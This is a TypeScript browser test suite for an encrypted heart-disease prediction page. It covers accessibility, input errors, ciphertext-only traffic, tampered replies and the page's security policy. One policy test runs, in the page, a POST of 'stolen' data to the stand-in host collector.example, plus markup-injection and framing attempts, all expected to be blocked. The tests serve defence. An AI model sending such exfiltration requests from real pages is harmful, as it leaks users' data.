import { createHash, randomBytes } from 'node:crypto'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { decode } from 'cborg'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import {
  axeFindings,
  describeBrowser,
  hostFolder,
  launch,
  listening,
  open,
  outcome,
  serveModel,
} from '../support/browser.ts'
import { empCompile } from '../support/processes.ts'

const published = 'generated/heart-disease'
const messages = { contentType: 'application/cbor' }

let directory = ''
let browser: Browser
let home: Awaited<ReturnType<typeof serveModel>>

/** A page on the published model, with an example filled in. */
async function filled(context: BrowserContext, url = home.url): Promise<Page> {
  const page = await context.newPage()
  await page.goto(url)
  await page.click('#example')
  return page
}

/** Clicks as a hand does that has read what it sees: in the first second of a view no pointer stops or removes anything. */
async function calmly(page: Page, button: string): Promise<void> {
  await page.waitForTimeout(1100)
  await page.click(button)
}

/** Puts somebody between page and server, who changes each reply. */
async function between(page: Page, change: (reply: Buffer) => Buffer): Promise<void> {
  await page.route('**/evaluate', async (route) => {
    const reply = await (await route.fetch()).body()
    await route.fulfill({ ...messages, body: change(reply) })
  })
}

const flipped = (reply: Buffer) => Buffer.from(reply.map((byte, i) => (i === reply.length - 400 ? byte ^ 1 : byte)))

describeBrowser('a page, whatever happens', () => {
  beforeAll(async () => {
    directory = await mkdtemp(join(tmpdir(), 'emp-page-states-'))
    browser = await launch()
    home = await serveModel(published)
  })
  afterAll(async () => {
    await browser.close()
    await home.end()
    await rm(directory, { recursive: true, force: true })
  })

  test('tells a newcomer what it is, what it does and what it costs, within the first screen', async () => {
    for (const viewport of [
      { width: 1280, height: 800 },
      { width: 390, height: 844 },
      { width: 320, height: 568 },
    ]) {
      const { context } = await open(browser, { viewport })
      const page = await context.newPage()
      await page.goto(home.url)
      const seen = await page.evaluate(() =>
        [...document.querySelectorAll('h1, .lead, .promises li')]
          .filter((item) => item.getBoundingClientRect().bottom <= innerHeight)
          .map((item) => item.textContent ?? ''),
      )
      expect(seen[0]).toBe('Heart disease')
      expect(seen.join('\n')).toMatch(/Answer 3 questions, and see how people/)
      expect(seen.join('\n')).toMatch(/Encrypted on your device.*without being able to read your answers/)
      expect(seen.join('\n')).toMatch(/What it costs.*learns that somebody asked, and when/)
      // Nothing has to be scrolled sideways.
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(viewport.width)
      await context.close()
    }
  })

  test('names every fault, at the top with the focus and beside the question, and links to it', async () => {
    const { context, watch } = await open(browser)
    const page = await context.newPage()
    await page.goto(home.url)
    await page.check('#q1-missing')
    await page.click('#submit')
    expect(await page.title()).toMatch(/^Error: /)
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('faults')
    expect(await page.locator('#fault-list a').allTextContents()).toEqual([
      'Select an answer to “Chest pain”',
      'Select an answer to “Thallium scan”',
    ])
    expect(await page.locator('fieldset').first().getAttribute('aria-describedby')).toBe('q0-hint q0-error')
    expect(await page.textContent('#q0-error')).toBe('Error: Select an answer to “Chest pain”')
    expect(await page.locator('#q1-error').isVisible()).toBe(false)
    await page.click('#fault-list a >> nth=1')
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('q2-0')
    expect(await axeFindings(page)).toEqual([])
    expect(watch.requests.filter(({ method }) => method !== 'GET')).toEqual([])
    await calmly(page, '#clear')
    expect(await page.title()).not.toMatch(/Error/)
    expect(await page.locator('#faults').isVisible()).toBe(false)
    await context.close()
  })

  test('names what is wrong with a number', { timeout: 90_000 }, async () => {
    const model = join(directory, 'numbers')
    const compiled = await empCompile([
      resolve('datasets/heart-disease.csv'),
      '--out',
      model,
      '--prune',
      'none',
      '--max-depth',
      '6',
    ])
    expect(compiled.code).toBe(0)
    const server = await serveModel(model)
    const { context } = await open(browser)
    const page = await filled(context, server.url)
    const of = async (title: string) => (await page.getByLabel(title, { exact: true }).getAttribute('id')) ?? ''
    const [age, chol, oldpeak] = [await of('Age'), await of('Cholesterol'), await of('ST depression on exercise')]
    for (const [id, text, says] of [
      [age, '', 'Enter a number for “Age”'],
      [age, 'old', '“Age” must be a number, such as 18'],
      [age, '17', '“Age” must be 18 to 110 years: this model knows no other values'],
      [age, '1,234', '“Age” must be 18 to 110 years: this model knows no other values'],
      [age, '54,5', '“Age” must be a whole number'],
      [oldpeak, '1,25', '“ST depression on exercise” must have at most 1 decimal'],
      [chol, '1.234,5', '“Cholesterol” must be 80 to 700 mg/dL: this model knows no other values'],
    ] as const) {
      await page.click('#example')
      await page.fill(`#${id}`, text)
      await page.click('#submit')
      expect(await page.locator('#fault-list a').allTextContents(), text).toEqual([says])
      expect(await page.getAttribute(`#${id}`, 'aria-invalid')).toBe('true')
    }
    await page.click('#example')
    await page.selectOption(`#${chol}-unit`, { label: 'mmol/L' })
    await page.fill(`#${chol}`, '233')
    await page.click('#submit')
    expect(await page.locator('#fault-list a').allTextContents()).toEqual([
      '“Cholesterol” must be 2.07 to 18.1 mmol/L: this model knows no other values',
    ])
    await page.click('#example')
    expect(await page.textContent(`#${chol}-range`)).toBe('80 to 700 mg/dL')
    expect(await axeFindings(page)).toEqual([])
    await context.close()
    await server.end()
  })

  test('sends nothing but ciphertexts, to where it came from, and leaves nothing behind', async () => {
    // Numbers that do not come about by chance.
    const values = [816_293_457, 604_718_935, 257_390_146]
    const rows = Array.from({ length: 24 }, (_, i) => [
      ...values.map((value, k) => ((i + k) % 8 < 4 ? value : value + 90_000_001)),
      i % 8 < 4 ? 'no' : i % 3 === 0 ? 'no' : 'yes',
    ])
    await writeFile(
      join(directory, 'rare.csv'),
      `alpha,beta,gamma,outcome\n${rows.map((row) => row.join()).join('\n')}\n`,
    )
    const model = join(directory, 'rare')
    const compiled = await empCompile([
      join(directory, 'rare.csv'),
      '--out',
      model,
      '--prune',
      'none',
      '--min-samples-leaf',
      '1',
    ])
    expect(compiled, compiled.stderr).toMatchObject({ code: 0 })
    const server = await serveModel(model)
    const { context, watch } = await open(browser)
    const page = await context.newPage()
    await page.goto(server.url)
    const asked = await page.locator('input[inputmode]').count()
    const names = await page.locator('label.title').allTextContents()
    expect(asked).toBeGreaterThan(0)
    const given = names.map((name) => values[['alpha', 'beta', 'gamma'].indexOf(name)] ?? 0)
    for (const [i, value] of given.entries()) await page.fill(`#q${i}`, String(value))
    await page.click('#submit')
    expect(await outcome(page)).toBe('answer')
    expect(await axeFindings(page)).toEqual([])

    const posts = watch.requests.filter(({ method }) => method !== 'GET')
    expect(posts.map(({ method, url }) => `${method} ${url}`)).toEqual([`POST ${server.url}/evaluate`])
    expect(watch.requests.map(({ url }) => new URL(url).origin).filter((origin) => origin !== server.url)).toEqual([])
    expect(watch.complaints).toEqual([])
    const [request] = posts
    if (request === undefined) throw new Error('nothing was sent')
    const fields: Record<string, Uint8Array | number> = decode(request.body)
    expect(Object.keys(fields).sort()).toEqual(['ciphertexts', 'contract', 'key', 'version'])
    expect([(fields.key as Uint8Array).length, (fields.ciphertexts as Uint8Array).length]).toEqual([384, 768 * asked])

    const contract = await readFile(join(model, 'client.ts'), 'utf8')
    const minimum = (name: string) =>
      Number(new RegExp(`name: '${name}', grid: \\{ minimum: (\\d+)`).exec(contract)?.[1])
    const everything = Buffer.concat(
      watch.requests.flatMap(({ url, headers, body }) => [Buffer.from(url), Buffer.from(headers), body]),
    )
    for (const [i, value] of given.entries()) {
      for (const number of [value, value - minimum(names[i] ?? ''), 2 * (value - minimum(names[i] ?? '')) - 1]) {
        for (const encoding of encodingsOf(number)) expect(everything.includes(encoding), `${number}`).toBe(false)
      }
    }
    // The search finds what is there.
    expect(everything.includes(Buffer.from('/evaluate'))).toBe(true)

    await calmly(page, '#remove')
    expect(await page.locator('#answer').textContent()).not.toMatch(/of 100/)
    expect(await page.evaluate(() => [...document.querySelectorAll('input')].map(({ value }) => value).join(''))).toBe(
      '',
    )
    const left = await page.evaluate(async () => {
      const databases = (await indexedDB.databases()).length + (await caches.keys()).length
      return [localStorage.length, sessionStorage.length, document.cookie, databases]
    })
    expect(left).toEqual([0, 0, '', 0])
    expect(await context.cookies()).toEqual([])
    await context.close()
    await server.end()
  })

  test('shows what was sent, by its bytes, and gives it away as files', async () => {
    const { context, watch } = await open(browser, { acceptDownloads: true })
    const page = await filled(context)
    expect(await page.textContent('#planned')).toMatch(/^2,763 bytes, whatever you answer/)
    await page.click('#submit')
    expect(await outcome(page)).toBe('answer')
    const sent = watch.requests.find(({ method }) => method === 'POST')?.body ?? Buffer.alloc(0)
    const panel = (await page.locator('#exchange').textContent()) ?? ''
    expect(panel).toContain(`2,763 bytes to ${home.url}/`)
    expect(panel).toContain('3 ciphertexts of 768 bytes')
    expect(panel).toContain(
      sent
        .subarray(-768, -744)
        .toString('hex')
        .replace(/..(?=.)/g, '$& '),
    )
    for (const what of ['request', 'reply']) {
      const [download] = await Promise.all([page.waitForEvent('download'), page.click(`#save-${what}`)])
      expect(download.suggestedFilename()).toBe(`heart-disease-${what}.cbor`)
      const saved = await readFile(await download.path())
      if (what === 'request') expect(saved.equals(sent)).toBe(true)
      else expect(Object.keys(decode(saved)).sort()).toEqual(['ciphertexts', 'contract', 'request', 'version'])
    }
    await page.click('summary >> nth=0')
    await page.click('summary >> nth=1')
    const served = Buffer.from(await (await fetch(home.url)).arrayBuffer())
    expect(await page.textContent('#page-hash')).toBe(createHash('sha256').update(served).digest('hex'))
    const health = (await (await fetch(`${home.url}/health`)).json()) as { models: { contract: string }[] }
    expect(health.models).toHaveLength(1)
    expect(await page.locator('#sent').textContent()).toContain(health.models[0]?.contract)
    expect(await page.locator('#sent').textContent()).toContain('the outcome of each of the 3 tests')
    expect(await axeFindings(page)).toEqual([])
    await context.close()
  })

  test.each(['key', 'noise', 'sealing', 'sent', 'opening'])(
    'is cancelled at the stage "%s", and works again',
    async (stage) => {
      const { context, watch } = await open(browser)
      await context.addInitScript((wanted) => {
        const cancel = () => {
          const working = document.getElementById('working')
          if (working?.dataset.stage === wanted && !working.hidden) document.getElementById('cancel')?.click()
        }
        document.addEventListener('DOMContentLoaded', () => {
          const working = document.getElementById('working')
          if (working === null || window.name === 'again') return
          // A window has its name through a reload.
          new MutationObserver(cancel).observe(working, { attributes: true })
          const readiness = document.getElementById('readiness')
          const begin = () => {
            document.getElementById('example')?.click()
            document.getElementById('submit')?.click()
          }
          if (wanted !== 'sealing' || readiness === null) return begin()
          const ready = new MutationObserver(() => {
            if (readiness.dataset.stage !== 'ready') return
            ready.disconnect()
            begin()
          })
          ready.observe(readiness, { attributes: true })
        })
      }, stage)
      const page = await context.newPage()
      await page.goto(home.url)
      await page.locator('#note', { hasText: 'Cancelled' }).waitFor()
      expect(await page.locator('#ask').isVisible()).toBe(true)
      expect(await page.evaluate(() => document.activeElement?.id)).toBe('submit')
      expect(await page.locator('#working').getAttribute('data-stage')).toBe(stage)
      expect(watch.requests.filter(({ method }) => method === 'POST')).toHaveLength(
        stage === 'sent' || stage === 'opening' ? 1 : 0,
      )
      await page.locator('#readiness[data-stage=ready]').waitFor()
      // The worker that was cancelled is no more; the new one has made a new key.
      expect(page.workers()).toHaveLength(1)
      await page.evaluate(() => {
        window.name = 'again'
      })
      await page.reload()
      await page.click('#example')
      await page.click('#submit')
      expect(await outcome(page)).toBe('answer')
      expect(page.workers()).toHaveLength(0)
      await context.close()
    },
  )

  test('while it works it is as accessible, and says what it does', async () => {
    const { context } = await open(browser)
    const page = await filled(context)
    let go = () => {}
    await page.route('**/evaluate', async (route) => {
      await new Promise<void>((done) => {
        go = done
      })
      await route.continue()
    })
    await page.click('#submit')
    await page.locator('#working[data-stage=sent]').waitFor()
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('working-title')
    expect(await page.locator('#steps li').allTextContents()).toEqual([
      'Make your key (done)',
      'Encrypt your answers (done)',
      'Send them, and wait for the reply (now)',
      'Open the reply',
    ])
    expect(await page.textContent('#progress')).toMatch(/^2,763 encrypted bytes/)
    expect(await axeFindings(page)).toEqual([])
    go()
    expect(await outcome(page)).toBe('answer')
    await context.close()
  })

  test.each([
    { name: 'a phone in the dark', lang: 'fr', colorScheme: 'dark', viewport: { width: 390, height: 844 } },
    { name: 'a large screen in the dark', lang: 'de', colorScheme: 'dark', viewport: { width: 1280, height: 800 } },
    { name: 'a phone', lang: 'en', colorScheme: 'light', viewport: { width: 320, height: 640 } },
    { name: 'a large screen', lang: 'en', colorScheme: 'light', viewport: { width: 1280, height: 800 } },
  ] as const)(
    'has nothing that axe finds wrong, in any state, on $name, in $lang',
    async ({ lang, colorScheme, viewport }) => {
      // A long form in other languages, with a switch; a short one in English.
      const server = lang === 'en' ? home : await serveModel('generated/heart-disease-label', ['--lang', `${lang},en`])
      const { context } = await open(browser, { colorScheme, viewport, locale: lang, reducedMotion: 'reduce' })
      const page = await context.newPage()
      await page.goto(server.url)
      const states: Record<string, () => Promise<unknown>> = {
        form: () => page.locator('#readiness[data-stage=ready]').waitFor(),
        faults: () => page.click('#submit'),
        example: () => page.click('#example'),
        working: async () => {
          await page.route('**/evaluate', () => {})
          await page.click('#submit')
          await page.locator('#working[data-stage=sent]').waitFor()
        },
        cancelled: async () => {
          await calmly(page, '#cancel')
          await page.locator('#submit:visible').waitFor()
        },
        failure: async () => {
          await page.unroute('**/evaluate')
          await page.route('**/evaluate', (route) => route.abort())
          await page.click('#submit')
          await page.locator('#failure:visible').waitFor()
        },
        answer: async () => {
          await page.unroute('**/evaluate')
          await page.click('#again')
          expect(await outcome(page)).toBe('answer')
          for (const summary of await page.locator('#sent summary').all()) await summary.click()
        },
      }
      for (const [state, reach] of Object.entries(states)) {
        await reach()
        expect(await axeFindings(page), state).toEqual([])
        expect(await page.evaluate(() => document.documentElement.scrollWidth), state).toBeLessThanOrEqual(
          viewport.width,
        )
      }
      // What is printed is the answer, with its words of caution.
      await page.emulateMedia({ media: 'print' })
      expect(await page.locator('#answer .warning').isVisible()).toBe(true)
      expect(await page.locator('#remove').isVisible()).toBe(false)
      await context.close()
      if (server !== home) await server.end()
    },
  )

  test('says that a server is slow, and gives it up after a minute', async () => {
    const { context } = await open(browser)
    const page = await context.newPage()
    await page.clock.install()
    await page.goto(home.url)
    await page.route('**/evaluate', () => new Promise(() => {}))
    await page.click('#example')
    await page.click('#submit')
    await page.locator('#working[data-stage=sent]').waitFor()
    await page.clock.fastForward(10_000)
    expect(await page.textContent('#progress')).toMatch(/longer than usual/)
    await page.clock.fastForward(51_000)
    expect(await outcome(page)).toBe('deadline')
    expect(await page.textContent('#failure')).toMatch(/did not reply in time.*within a minute/s)
    await context.close()
  })

  test('says that the server is gone, keeps the answers, and tries again', async () => {
    const server = await serveModel(published)
    const { context } = await open(browser)
    const page = await filled(context, server.url)
    await server.end()
    await page.click('#submit')
    expect(await outcome(page)).toBe('unreachable')
    expect(await page.title()).toMatch(/^Error: The server could not be reached/)
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('failure-title')
    expect(await axeFindings(page)).toEqual([])
    await page.click('#back')
    expect(await page.locator('input:checked').count()).toBe(3)
    const port = new URL(server.url).port
    const again = await serveModel(published, ['--port', port])
    await page.click('#submit')
    expect(await outcome(page)).toBe('answer')
    await context.close()
    await again.end()
  })

  test('refuses a server of another model, and one of another kind', async () => {
    const model = join(directory, 'other')
    expect((await empCompile([resolve('datasets/heart-disease.csv'), '--out', model, '--max-depth', '1'])).code).toBe(0)
    const other = await serveModel(model)
    const stranger = await listening((_, response) => response.end('hello'))
    for (const [url, code] of [
      [other.url, 'wrong-contract'],
      [stranger.url, 'unreachable'],
    ] as const) {
      const { url: pageUrl, close } = await hosted(['--server', url])
      const { context, watch } = await open(browser)
      const page = await filled(context, pageUrl)
      await page.click('#submit')
      expect(await outcome(page)).toBe(code)
      expect(watch.complaints.filter((text) => text.startsWith('policy'))).toEqual([])
      await context.close()
      close()
    }
    stranger.close()
    await other.end()
  })

  test('works from a static host, with the policy in the page alone, for a server elsewhere', async () => {
    const { url, close } = await hosted(['--server', home.url], false)
    const { context, watch } = await open(browser)
    const page = await filled(context, url)
    await page.click('#submit')
    expect(await outcome(page)).toBe('answer')
    const origins = new Set(watch.requests.map((request) => new URL(request.url).origin))
    expect(origins).toEqual(new Set([url, home.url]))
    expect(watch.complaints).toEqual([])
    await context.close()
    close()
  })

  test('throws away a reply that was changed, one to another request, and noise', async () => {
    const { context } = await open(browser)
    const page = await filled(context)
    let earlier: Buffer = Buffer.alloc(0)
    for (const [change, codes] of [
      [flipped, /^bad-(reply|ciphertext)$/],
      [(reply: Buffer) => reply.subarray(0, -1), /^bad-message$/],
      [() => randomBytes(878), /^bad-message$/],
      [() => Buffer.alloc(100_000), /^too-large$/],
    ] as const) {
      await between(page, (reply) => {
        earlier = reply
        return change(reply)
      })
      await page.click('#submit')
      expect(await outcome(page)).toMatch(codes)
      expect(await page.textContent('#failure')).toMatch(/cannot be trusted.*thrown away/s)
      await page.unroute('**/evaluate')
      await page.click('#back')
    }
    const kept = earlier
    await between(page, () => kept)
    await page.click('#submit')
    expect(await outcome(page)).toBe('other-request')
    await context.close()
  })

  test('pins the key of the replies, and refuses one that another has signed or changed', async () => {
    const key = join(directory, 'key.pem')
    expect((await empCompile(['reply-key', key])).code).toBe(0)
    const model = join(directory, 'pinned')
    const compiled = await empCompile([resolve('datasets/heart-disease.csv'), '--out', model, '--reply-key', key])
    expect(compiled, compiled.stderr).toMatchObject({ code: 0 })
    const server = await serveModel(model, ['--reply-key', key])
    const { context } = await open(browser)
    const page = await filled(context, server.url)
    await between(page, flipped)
    await page.click('#submit')
    expect(await outcome(page)).toBe('bad-signature')
    await page.unroute('**/evaluate')
    // A server without the key answers in this one's place.
    await page.route('**/evaluate', async (route) => {
      const forged = await fetch(`${home.url}/evaluate`, {
        method: 'POST',
        body: new Uint8Array(route.request().postDataBuffer() ?? []),
      })
      await route.fulfill({ ...messages, body: Buffer.from(await forged.arrayBuffer()) })
    })
    await page.click('#again')
    expect(await outcome(page)).toBe('bad-signature')
    await page.unroute('**/evaluate')
    await page.click('#again')
    expect(await outcome(page)).toBe('answer')
    expect(await page.textContent('#exchange')).toMatch(/signed by the model/)
    await context.close()
    await server.end()
  })

  test('starts no worker but its own', async () => {
    const { context } = await open(browser)
    const page = await context.newPage()
    await page.route('**/worker.*.js', async (route) => {
      const response = await route.fetch()
      await route.fulfill({ response, body: `${await response.text()}\n// one line more` })
    })
    await page.goto(home.url)
    await page.click('#example')
    await page.click('#submit')
    expect(await outcome(page)).toBe('worker-failed')
    expect(page.workers()).toEqual([])
    expect(await axeFindings(page)).toEqual([])
    await context.close()
  })

  test('its policy holds: no script of others, no markup from scripts, no frame, nothing sent elsewhere', async () => {
    const { context, watch } = await open(browser)
    const page = await context.newPage()
    await page.goto(home.url)
    await page.locator('#readiness[data-stage=ready]').waitFor()
    expect(watch.complaints).toEqual([])
    const tried = await page.evaluate(async () => {
      const refused = (act: () => unknown) => {
        try {
          act()
          return 'done'
        } catch (error) {
          return (error as Error).name
        }
      }
      return [
        refused(() => {
          document.body.innerHTML = '<p>replaced</p>'
        }),
        refused(() => new Worker('main.js')),
        refused(() => {
          document.createElement('script').textContent = 'window.injected = true'
        }),
        await fetch('https://collector.example/', { method: 'POST', body: 'stolen' }).then(
          () => 'done',
          () => 'refused',
        ),
      ]
    })
    expect(tried).toEqual(['TypeError', 'TypeError', 'TypeError', 'refused'])
    expect(watch.requests.filter(({ url }) => url.includes('collector'))).toEqual([])

    const framing = await listening((_, response) => {
      response.setHeader('content-type', 'text/html').end(`<iframe src="${home.url}"></iframe>`)
    })
    const frames = await context.newPage()
    await frames.goto(framing.url)
    expect(await frames.frames()[1]?.locator('#form').count()).toBe(0)
    framing.close()
    await context.close()
  })

  test('without headers it does not work in a frame', async () => {
    const { url, close } = await hosted(['--server', home.url], false)
    const framing = await listening((_, response) => {
      response.setHeader('content-type', 'text/html').end(`<iframe src="${url}" width="600" height="600"></iframe>`)
    })
    const { context } = await open(browser)
    const page = await context.newPage()
    await page.goto(framing.url)
    const inner = page.frameLocator('iframe')
    await inner.locator('#failure[data-code=framed]').waitFor()
    expect(await inner.locator('#submit').isVisible()).toBe(false)
    framing.close()
    await context.close()
    close()
  })

  test('serve --no-page is the server alone', async () => {
    const server = await serveModel(published, ['--no-page'])
    expect((await fetch(server.url)).status).toBe(404)
    expect((await fetch(`${server.url}/health`)).status).toBe(200)
    await server.end()
  })
})

/** The folder that `emp-compile page` writes, on a static host; with the headers of `_headers`, or with none. */
async function hosted(args: readonly string[], withHeaders = true): Promise<{ url: string; close(): void }> {
  const output = await mkdtemp(join(directory, 'hosted-'))
  const { code, stderr } = await empCompile(['page', published, '--out', output, ...args])
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
  return hostFolder(output, withHeaders)
}

/** Ways in which a number might be written. */
function encodingsOf(number: number): Buffer[] {
  const decimal = String(number)
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(number >>> 0)
  const little = Buffer.from(bytes).reverse()
  const floating = Buffer.alloc(8)
  floating.writeDoubleBE(number)
  return [
    ...[decimal, number.toString(16), bytes.toString('hex'), little.toString('hex')].map((text) => Buffer.from(text)),
    ...[bytes, little, floating, Buffer.from(floating).reverse()],
    ...[Buffer.from(decimal), bytes, little].map((content) =>
      Buffer.from(content.toString('base64').replace(/=+$/, '').slice(0, -1)),
    ),
  ]
}
